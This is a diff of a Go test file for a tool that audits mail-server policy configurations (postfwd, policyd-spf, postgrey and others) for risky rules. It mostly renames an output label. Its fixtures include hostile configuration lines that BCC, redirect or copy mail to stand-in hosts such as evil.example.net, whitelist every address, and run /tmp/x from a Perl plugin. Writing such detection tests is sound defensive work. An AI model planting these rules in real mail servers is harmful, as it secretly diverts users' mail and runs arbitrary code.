@@ -24,8 +24,8 @@ func told(r mta.Result) string {
 		if h.Target.Remote {
 			extra += " remote"
 		}
-		if h.Modifiers["passes"] != "" {
-			extra += " passes " + h.Modifiers["passes"]
+		if h.Modifiers["lets_pass"] != "" {
+			extra += " passes " + h.Modifiers["lets_pass"]
 		}
 		if why := h.Modifiers["inactive"]; why != "" {
 			extra += " (" + why + ")"
@@ -58,10 +58,10 @@ func TestHooks(t *testing.T) {
 		{"postfwd writes", map[string]string{postfwdRules: "id=R1; rate==5; action=mail(203.0.113.9/h/a@b.example/drop@evil.example.net/s/b)\nid=R2; sender=a; action=sendmail(/usr/sbin/sendmail::a@example.test::root@example.test::s::b)\nid=R3; sender=a; action=sendmail(/tmp/x::a::b::s::b)\n"},
 			"copy mail:1 drop@evil.example.net remote | mail with rate==5\ncopy sendmail:2 root@example.test | mail with sender=a\npipe sendmail:3 /tmp/x -i -f a b | mail with sender=a\n"},
 		{"postfwd answers all before the rules", map[string]string{postfwdRules: "id=A; action=dunno\nid=B; sender=x; action=REDIRECT a@evil.example.net\n"},
-			"policy action:1 dunno passes everybody | all mail that it is asked about\nredirect REDIRECT:2 a@evil.example.net remote (a rule above it answers whatever is asked) | mail with sender=x\n"},
+			"policy action:1 dunno passes all | all mail that it is asked about\nredirect REDIRECT:2 a@evil.example.net remote (a rule above it answers whatever is asked) | mail with sender=x\n"},
 		{"postfwd answers all behind the rules", map[string]string{postfwdRules: "id=B; sender=x; action=REJECT\nid=A; action=dunno\n"}, ""},
 		{"postfwd takes all from anywhere", map[string]string{postfwdRules: "id=A; client_address=10.0.0.0/8,0.0.0.0/0; action=OK\n"},
-			"policy action:1 OK passes everybody | all mail that it is asked about\n"},
+			"policy action:1 OK passes all | all mail that it is asked about\n"},
 		{"postfwd takes mail of the own network", map[string]string{postfwdRules: "id=A; client_address=10.0.0.0/8; action=OK\n"}, ""},
 		{"postfwd jumps over what answers all", map[string]string{postfwdRules: "id=A; sender=a; action=jump(C)\nid=B; action=reject\nid=C; sender=a; action=HOLD\n"},
 			"discard HOLD:3 HOLD | mail with sender=a\n"},
@@ -69,37 +69,41 @@ func TestHooks(t *testing.T) {
 			"content_filter FILTER:1 [203.0.113.9]:2525 remote | mail with sender=a@example.test, …\n"},
 		{"postfwd with options", map[string]string{"/etc/default/postfwd": "STARTUP=1\nCONF=/etc/postfwd/rules\nINET=127.0.0.1\nPORT=10040\nRUNAS=\"postfw\"\nARGS=\"--plugins /etc/postfwd/x.pl --scores 4.0='REDIRECT a@evil.example.net' -r 'id=Z; action=BCC b@evil.example.net'\"\n",
 			"/etc/postfwd/rules": "id=R; sender=x; action=PREPEND X-A: b\n"},
-			"plugin --plugins:6 /etc/postfwd/x.pl | all mail that it is asked about\n" +
+			"script plugins:1 /etc/postfwd/x.pl | all mail that it is asked about\n" +
 				"redirect REDIRECT:6 a@evil.example.net remote | mail with 4.0 points or more\n" +
 				"copy BCC:6 b@evil.example.net remote | all mail that it is asked about\n" +
 				"rewrite PREPEND:1 X-A: b (a rule above it answers whatever is asked) | mail with sender=x\n"},
-		{"policyd-spf lets a network by", map[string]string{string(spfConfig): "Whitelist = 10.0.0.0/8, 0.0.0.0/0\n"}, "policy Whitelist:1 0.0.0.0/0 passes everybody | all mail that it is asked about\n"},
-		{"policyd-spf only tests", map[string]string{string(spfConfig): "TestOnly = 0\n"}, "policy TestOnly:1 0 passes everybody | all mail that it is asked about\n"},
-		{"policyd-spf refuses nothing", map[string]string{string(spfConfig): "HELO_reject = False\nMail_From_reject = No_Check\n"}, "policy Mail_From_reject:2 No_Check passes everybody | all mail that it is asked about\n"},
+		{"postfwd with a plugin", map[string]string{"/etc/default/postfwd": "ARGS=\"--plugins=/etc/postfwd/x.pl\"\n",
+			"/etc/postfwd/x.pl": "# system('no')\n%postfwd_actions_plugin = (\n'x' => sub { system('/tmp/x'); return 'redirect a@evil.example.net'; });\n"},
+			"script plugins:1 /etc/postfwd/x.pl | all mail that it is asked about\nexpansion_exec plugins:3 /tmp/x | all mail that it is asked about\n" +
+				"redirect REDIRECT:3 a@evil.example.net remote | all mail that it is asked about\n"},
+		{"policyd-spf lets a network by", map[string]string{string(spfConfig): "Whitelist = 10.0.0.0/8, 0.0.0.0/0\n"}, "policy Whitelist:1 0.0.0.0/0 passes all | all mail that it is asked about\n"},
+		{"policyd-spf only tests", map[string]string{string(spfConfig): "TestOnly = 0\n"}, "policy TestOnly:1 0 passes all | all mail that it is asked about\n"},
+		{"policyd-spf refuses nothing", map[string]string{string(spfConfig): "HELO_reject = False\nMail_From_reject = No_Check\n"}, "policy Mail_From_reject:2 No_Check passes all | all mail that it is asked about\n"},
 		{"policyd-spf checks one of two", map[string]string{string(spfConfig): "HELO_reject = False\nWhitelist = 10.0.0.0/8\nDomain_Whitelist = partner.example\nTestOnly = 1\nNoSuch = 1\n"}, ""},
 		{"policyd-spf answers as it is told", map[string]string{string(spfConfig): "Mail_From_pass_restriction = REDIRECT a@evil.example.net\n"},
 			"redirect REDIRECT:1 a@evil.example.net remote | mail that SPF has nothing against\n"},
 		{"policyd-spf of another file", map[string]string{"/etc/postfix/master.cf": "spf unix - n n - 0 spawn user=nobody argv=/usr/bin/policyd-spf\n  /etc/spf.conf\n", "/etc/spf.conf": "skip_addresses = ::/0\n"},
-			"policy skip_addresses:1 ::/0 passes everybody | all mail that it is asked about\n"},
+			"policy skip_addresses:1 ::/0 passes all | all mail that it is asked about\n"},
 		{"postgrey lets all by", map[string]string{"/etc/postgrey/whitelist_clients.local": "# ours\nmx.example.test\n/.*/\n10.0.0.0/8\n", "/etc/postgrey/whitelist_clients": "com\n0.0.0.0/0\n/^mail\\d+\\.x$/\ndebian.org\n"},
-			"policy whitelist:1 com passes everybody | all mail that it is asked about\npolicy whitelist:2 0.0.0.0/0 passes everybody | all mail that it is asked about\npolicy whitelist:3 /.*/ passes everybody | all mail that it is asked about\n"},
+			"policy whitelist:1 com passes all | all mail that it is asked about\npolicy whitelist:2 0.0.0.0/0 passes all | all mail that it is asked about\npolicy whitelist:3 /.*/ passes all | all mail that it is asked about\n"},
 		{"postgrey answers as it is told", map[string]string{"/etc/default/postgrey": "POSTGREY_OPTS=\"--inet=10023 --greylist-action='REDIRECT a@evil.example.net'\"\n"}, "redirect REDIRECT:1 a@evil.example.net greylisted remote | mail that is greylisted\n"},
 		{"postgrey puts nobody off", map[string]string{"/etc/default/postgrey": "POSTGREY_OPTS=\"--inet=10023\"\nPOSTGREY_OPTS=\"$POSTGREY_OPTS --greylist-action=DUNNO --x-greylist-header='Reply-To: a@evil.example.net'\"\n"},
-			"policy --greylist-action:2 DUNNO passes everybody | all mail that it is asked about\nrewrite --x-greylist-header:2 Reply-To: a@evil.example.net | all mail that waited\n"},
+			"policy --greylist-action:2 DUNNO passes all | all mail that it is asked about\nrewrite --x-greylist-header:2 Reply-To: a@evil.example.net | all mail that waited\n"},
 		{"greylistd", map[string]string{"/etc/greylistd/config": "[timeouts]\nretryMin = 0\n[socket]\npath = /run/g\n", "/etc/greylistd/whitelist-hosts": "10.0.0.1\n*\n"},
-			"policy retryMin:2 0 passes everybody | all mail that it is asked about\npolicy whitelist-hosts:2 * passes everybody | all mail that it is asked about\n"},
+			"policy retryMin:2 0 passes all | all mail that it is asked about\npolicy whitelist-hosts:2 * passes all | all mail that it is asked about\n"},
 		{"policyd-rate-limit", map[string]string{"/etc/policyd-rate-limit.yaml": "report: True\nreport_to:\n    - root@example.test\n    - \"a@evil.example.net\" # x\nfail_action: \"discard\"\nlimits:\n  - [10, 60]\nbackend: 1\nmysql_config:\n  host: db.evil.example.net\n  passwd: geheim\n"},
 			"discard DISCARD:5 DISCARD | mail beyond the limits\ncopy report_to:2 root@example.test | reports on limits\ncopy report_to:2 a@evil.example.net remote | reports on limits\nmap host:10 mysql:db.evil.example.net remote | all mail that it is asked about\n"},
-		{"policyd-rate-limit limits nobody", map[string]string{"/etc/policyd-rate-limit.yaml": "limit_by_sasl: False\n"}, "policy limit_by_sasl:1 False passes everybody | all mail that it is asked about\n"},
+		{"policyd-rate-limit limits nobody", map[string]string{"/etc/policyd-rate-limit.yaml": "limit_by_sasl: False\n"}, "policy limit_by_sasl:1 False passes all | all mail that it is asked about\n"},
 		{"policyd-rate-limit in Python", map[string]string{"/etc/policyd-rate-limit.conf": "import os\nSOCKET = ('127.0.0.1', 8552)\n", "/etc/policyd-rate-limit.yaml": "limit_by_sasl: False\n"},
-			"module configuration:0 /etc/policyd-rate-limit.conf | all mail that it is asked about\n"},
+			"script configuration:1 /etc/policyd-rate-limit.conf | all mail that it is asked about\n"},
 		{"policyd-weight", map[string]string{"/etc/policyd-weight.conf": "$BIND_ADDRESS = '127.0.0.1';\n$REJECTMSG = 'DUNNO';\n"},
-			"module configuration:0 /etc/policyd-weight.conf | all mail that it is asked about\npolicy REJECTMSG:2 DUNNO passes everybody | all mail that it is asked about\n"},
+			"script configuration:1 /etc/policyd-weight.conf | all mail that it is asked about\npolicy REJECTMSG:2 DUNNO passes all | all mail that it is asked about\n"},
 		{"policyd 2", map[string]string{"/etc/cluebringer/cluebringer.conf": "[server]\nmodules=<<EOT\nCore\nAccessControl\nEOT\n[database]\nDSN=DBI:mysql:database=p;host=203.0.113.9\nPassword=geheim\n"},
 			"map DSN:7 DBI:mysql:database=p;host=203.0.113.9 remote | all mail that it is asked about\n"},
 		{"PostSRSd", map[string]string{"/etc/default/postsrsd": "SRS_DOMAIN=mail.example.test\nSRS_SECRET=/etc/postsrsd.secret\n", "/etc/postsrsd.secret": "f3mY9+aZk1Qw8rTt5LqVbN7xCzE2sH0p\n"}, ""},
 		{"PostSRSd of another domain", map[string]string{"/etc/default/postsrsd": "SRS_DOMAIN=evil.example.net\nSRS_SECRET=/etc/postsrsd.secret\n", "/etc/postsrsd.secret": "12345\n"},
-			"rewrite SRS_DOMAIN:1 @evil.example.net remote | all mail that it is asked about\npolicy SRS_SECRET:2 /etc/postsrsd.secret passes everybody | all mail that it is asked about\n"},
+			"rewrite SRS_DOMAIN:1 @evil.example.net remote | all mail that it is asked about\npolicy SRS_SECRET:2 /etc/postsrsd.secret passes all | all mail that it is asked about\n"},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			r := read(tc.files)
